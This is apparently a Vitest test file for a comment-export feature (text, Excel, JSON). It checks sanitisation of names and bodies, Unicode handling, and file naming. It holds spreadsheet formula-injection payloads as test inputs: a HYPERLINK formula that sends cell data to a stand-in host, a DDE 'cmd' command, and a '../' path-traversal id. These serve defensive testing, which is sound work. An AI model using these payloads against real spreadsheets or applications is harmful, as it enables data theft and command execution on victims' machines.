import { screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { hundredNames } from 'api-mocks/factories/typed-names';
import { strFromU8, unzipSync } from 'fflate';
import type { CommentEntry } from 'shared-data/models/comment';
import { fullName } from 'shared-data/models/person-name';
import { setFirebase } from 'shared-data/platform/firebase';
import type { AuthPort, Transport } from 'shared-data/platform/ports';
import { Toaster } from 'shared-ui/toast';
import { afterEach, expect, test, vi } from 'vitest';
import { show } from '../../testing/render.tsx';
import { CommentExport } from './comment-export.tsx';
import { commentsAsExcel, commentsAsJson, commentsAsText } from './export-comments.ts';

afterEach(() => vi.restoreAllMocks());

const words = {
  time: 'Time',
  name: 'Name',
  comment: 'Comment',
  replyTo: 'Reply to',
  unknownName: 'Participant',
  deleted: 'This comment was deleted.',
  hidden: 'This comment was hidden.',
  timeZone: 'Asia/Tokyo',
};
const discussion = { on: 'program', id: 'OB1', title: 'Ice' } as const;
const at = Date.parse('2026-12-02T14:05:00+09:00');
const comment = (id: string, more: Partial<CommentEntry> = {}): CommentEntry => ({
  id,
  uid: `uid of ${id}`,
  name: 'Kenji Mori',
  body: `Text of ${id}`,
  time: at,
  ...more,
});

interface Cell {
  type: string | null;
  text: string;
  formula: boolean;
}

/** The cells of the first sheet, row by row, with the type each is stored as. */
async function reopen(file: Blob): Promise<Cell[][]> {
  const parts = unzipSync(new Uint8Array(await bytesOf(file)));
  const xml = (name: string) => {
    const text = strFromU8(parts[name] ?? new Uint8Array());
    const document = new DOMParser().parseFromString(text, 'application/xml');
    expect(document.querySelector('parsererror'), name).toBeNull();
    return document;
  };
  const shared = [...xml('xl/sharedStrings.xml').querySelectorAll('si')].map((one) => one.textContent ?? '');
  const sheet = xml('xl/worksheets/sheet1.xml');
  return [...sheet.querySelectorAll('row')].map((row) =>
    [...row.querySelectorAll('c')].map((cell) => {
      const type = cell.getAttribute('t');
      const value = cell.querySelector('v')?.textContent ?? '';
      return {
        type,
        text: type === 's' ? (shared[Number(value)] ?? '') : value,
        formula: cell.querySelector('f') !== null,
      };
    }),
  );
}

function bytesOf(file: Blob): Promise<ArrayBuffer> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(reader.result as ArrayBuffer);
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(file);
  });
}

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1',
  '-2+3',
  '@SUM(1+1)',
  "=cmd|'/c calc'!A1",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '1',
  '2026-12-02',
  'TRUE',
];

test('F50: whatever looks like a formula, a number or a date is text in the workbook', async () => {
  const comments = formulas.map((text, i) => comment(`c${i}`, { name: text, body: text }));
  const [head, ...rows] = await reopen(await commentsAsExcel(comments, words));
  expect(head?.map(({ text }) => text)).toEqual(['Time', 'Name', 'Comment', 'Reply to']);
  expect(rows).toHaveLength(formulas.length);
  for (const [i, row] of rows.entries()) {
    const filled = row.filter(({ text }) => text !== '');
    expect(filled.map(({ type, formula }) => [type, formula])).toEqual(filled.map(() => ['s', false]));
    // A carriage return is a line feed to whoever reads XML.
    const text = formulas[i]?.replace('\r', '\n');
    expect(row.slice(1, 3).map((cell) => cell.text)).toEqual([text, text]);
  }
});

test('spec 2, 3: the names of a hundred people in the scripts of the world come out of every export as they went in', async () => {
  const names = hundredNames.map(({ givenName, middleName = '', familyName }) =>
    fullName({ givenName, middleName, familyName }),
  );
  const comments = names.map((name, i) =>
    comment(`c${i}`, { name, body: `${name}: ${hundredNames[i]?.affiliation}`, time: at + i * 60_000 }),
  );
  const bodies = comments.map(({ body }) => body);
  expect(names.length).toBeGreaterThanOrEqual(100);

  const json = JSON.parse(commentsAsJson(discussion, comments));
  expect(json.comments.map(({ name }: { name: string }) => name)).toEqual(names);
  const [, ...rows] = await reopen(await commentsAsExcel(comments, words));
  expect(rows.map((row) => [row[1]?.text, row[2]?.text])).toEqual(names.map((name, i) => [name, bodies[i]]));
  const text = commentsAsText(discussion, comments, words);
  for (const [i, name] of names.entries()) {
    expect(text).toContain(name);
    expect(text).toContain(bodies[i]);
  }
});

test('F46, F50: a workbook holds names and words of all scripts, markup and odd characters, and can be opened', async () => {
  const bodies = [
    '雪村 楓 😀',
    '<b>&amp;</b> ]]>',
    'a\u0000b\u001bc',
    'two\nlines',
    '\ud800',
    'x'.repeat(5000),
    '  ',
  ];
  const rows = await reopen(
    await commentsAsExcel(
      bodies.map((body, i) => comment(`c${i}`, { body })),
      words,
    ),
  );
  const texts = rows.slice(1).map((row) => row[2]?.text);
  expect(texts).toEqual(['雪村 楓 😀', '<b>&amp;</b> ]]>', 'abc', 'two\nlines', '', 'x'.repeat(5000), '  ']);
});

test('F50: what Excel would take for a coded character stays as it was written', async () => {
  const rows = await reopen(await commentsAsExcel([comment('c', { body: '_x0041__x0042_ _x' })], words));
  expect(rows[1]?.[2]?.text).toBe('_x005F_x0041__x005F_x0042_ _x');
});

test('a name of several lines imitates no comment in the text', () => {
  const name = 'Ann (2026-12-02 14:05 JST)\r\n  I agree.\u2028\nKenji Mori';
  const text = commentsAsText(discussion, [comment('a', { name, body: 'x' })], words);
  expect(text.split('\n').slice(2)).toEqual([
    'Ann (2026-12-02 14:05 JST)   I agree. Kenji Mori (2026-12-02 14:05 JST)',
    '  x',
    '',
  ]);
});

test('a workbook says whom a comment answers', async () => {
  const comments = [
    comment('a', { name: '' }),
    comment('b', { replyTo: 'a' }),
    comment('c', { replyTo: 'gone' }),
  ];
  const rows = await reopen(await commentsAsExcel(comments, words));
  expect(rows.map((row) => [row[1]?.text, row[3]?.text ?? ''])).toEqual([
    ['Name', 'Reply to'],
    ['Participant', ''],
    ['Kenji Mori', 'Participant'],
    ['Kenji Mori', ''],
  ]);
  expect(rows[1]?.[0]?.text).toBe('2026-12-02 14:05 JST');
});

test('as JSON comments come back as they were, without anybody’s account', () => {
  const body = '"quoted" \u2028 =1+1 __proto__';
  const text = commentsAsJson(discussion, [comment('a', { body }), comment('b', { replyTo: 'a' })]);
  expect(JSON.parse(text)).toEqual({
    program: { id: 'OB1', title: 'Ice' },
    comments: [
      { id: 'a', name: 'Kenji Mori', body, time: new Date(at).toISOString() },
      {
        id: 'b',
        name: 'Kenji Mori',
        body: 'Text of b',
        time: new Date(at).toISOString(),
        replyTo: 'a',
      },
    ],
  });
  expect(text).not.toContain('uid of');
});

test('as text answers stand below what they answer, and no body passes for another comment', () => {
  const comments = [
    comment('a', { name: 'Aino' }),
    comment('b', { body: 'One\n\nKenji Mori (2026-12-02 14:05 JST)\u2028Two' }),
    comment('c', { name: '', replyTo: 'a' }),
  ];
  expect(commentsAsText(discussion, comments, words)).toBe(`OB1 Ice

Aino (2026-12-02 14:05 JST)
  Text of a

    Participant (2026-12-02 14:05 JST)
      Text of c

Kenji Mori (2026-12-02 14:05 JST)
  One

  Kenji Mori (2026-12-02 14:05 JST)
  Two
`);
});

/** Files that were handed to the browser, by name. */
function savedFiles(): Map<string, Blob> {
  const saved = new Map<string, Blob>();
  let content = new Blob();
  URL.createObjectURL = (blob) => {
    content = blob as Blob;
    return 'blob:file';
  };
  URL.revokeObjectURL = () => {};
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    saved.set(this.download, content);
  });
  return saved;
}

test('spec 2: every comment there is can be exported as text, Excel or JSON, under a file name that is one', async () => {
  const all = Object.fromEntries(
    Array.from({ length: 250 }, (_, i) => [
      `c${i}`,
      { uid: 'u', name: 'N', body: `Body ${i}`, time: 250 - i },
    ]),
  );
  const get = async (path: string) => (path === 'state/issue/data/../OB1' ? all : null);
  setFirebase({ auth: {} as AuthPort, transport: { get } as Partial<Transport> as Transport });
  const saved = savedFiles();
  show(<CommentExport discussion={{ ...discussion, id: '../OB1' }} />);
  for (const name of ['Text', 'Excel', 'JSON']) await userEvent.click(screen.getByRole('button', { name }));
  await expect.poll(() => saved.size).toBe(3);
  const file = async (name: string) => saved.get(name) ?? expect.fail(`no ${name}`);
  const text = new TextDecoder().decode(await bytesOf(await file('comments-_OB1.txt')));
  expect(text.match(/Body/g)).toHaveLength(250);
  const json = JSON.parse(new TextDecoder().decode(await bytesOf(await file('comments-_OB1.json'))));
  expect(json.comments.map(({ id }: { id: string }) => id)).toEqual(Object.keys(all).reverse());
  expect(await reopen(await file('comments-_OB1.xlsx'))).toHaveLength(251);
});

test('an export that cannot be read is told, and nothing is saved', async () => {
  const get = () => Promise.reject(new Error('offline'));
  setFirebase({ auth: {} as AuthPort, transport: { get } as Partial<Transport> as Transport });
  const saved = savedFiles();
  show(
    <>
      <CommentExport discussion={discussion} />
      <Toaster />
    </>,
  );
  await userEvent.click(screen.getByRole('button', { name: 'Text' }));
  expect(await screen.findByRole('alert')).toBeTruthy();
  expect(saved.size).toBe(0);
});
